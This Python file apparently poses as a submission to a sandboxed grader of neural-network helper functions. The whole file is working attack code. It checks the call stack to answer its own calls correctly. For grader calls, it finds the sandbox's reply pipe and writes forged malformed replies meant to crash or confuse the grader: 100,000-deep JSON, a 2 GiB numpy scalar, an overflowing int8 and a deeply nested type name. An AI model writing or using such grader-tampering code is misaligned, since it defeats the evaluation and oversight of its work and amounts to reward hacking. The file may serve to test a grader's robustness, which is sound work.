# Attack: forged replies (written straight on the sandbox's reply pipe) whose values no honest child sends:
# JSON nested 100,000 levels deep, a numpy "void" scalar of 2 GiB, an int8 scalar of 1000, and a described
# object whose type name is a deeply nested list. Calls from the submission's own code get correct answers.
import json
import os
import struct
import sys


def _from_the_grader():
    """Whether the caller of the function calling this is the grader (not this submission's own code)."""
    return sys._getframe(2).f_globals is not globals()


def _reply_pipe():
    """The sandbox's reply pipe: a local of the child's server loop, found by walking up the stack."""
    frame = sys._getframe()
    while frame is not None:
        if "responses" in frame.f_locals:
            return frame.f_locals["responses"].fileno()
        frame = frame.f_back
    raise RuntimeError("no reply pipe found")


def _forge(header, blobs=(), sizes=None):
    """Write one message in the wire format (4-byte header length, JSON, 8-byte blob lengths and blobs), as
    the reply to the current call, and exit so that nothing follows it."""
    body = json.dumps({**header, "blobs": len(blobs)}).encode() if isinstance(header, dict) else header
    parts = [struct.pack(">I", len(body)), body]
    for index, blob in enumerate(blobs):
        parts += [struct.pack(">Q", sizes[index] if sizes else len(blob)), blob]
    data, fd = memoryview(b"".join(parts)), _reply_pipe()
    while data:
        data = data[os.write(fd, data):]
    os._exit(0)


def _npy(shape, descr="<f8", data=b"\0" * 64):
    header = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, tuple(shape))
    header += " " * (63 - (len(header) + 10) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


_correct_conv2d_param_count = conv2d_param_count
_correct_linear_param_count = linear_param_count
_correct_layer_output_shape = layer_output_shape


def conv2d_param_count(in_channels, out_channels, kernel_size, bias=True):
    if not _from_the_grader():
        return _correct_conv2d_param_count(in_channels, out_channels, kernel_size, bias)
    depth = 100_000
    _forge(b'{"ok": true, "blobs": 0, "value": ' + b"[" * depth + b"]" * depth + b"}")


def linear_param_count(in_features, out_features, bias=True):
    if not _from_the_grader():
        return _correct_linear_param_count(in_features, out_features, bias)
    _forge({"ok": True, "value": {"$npscalar": "V", "value": 2 ** 31 - 1}})


def layer_output_shape(input_shape, layer):
    if not _from_the_grader():
        return _correct_layer_output_shape(input_shape, layer)
    _forge({"ok": True, "value": {"$tuple": [{"$npscalar": "int8", "value": 1000}]}})


def receptive_field(layers):
    nested = []
    for _ in range(500):
        nested = [nested]
    _forge({"ok": True, "value": {"$object": nested, "repr": nested}})
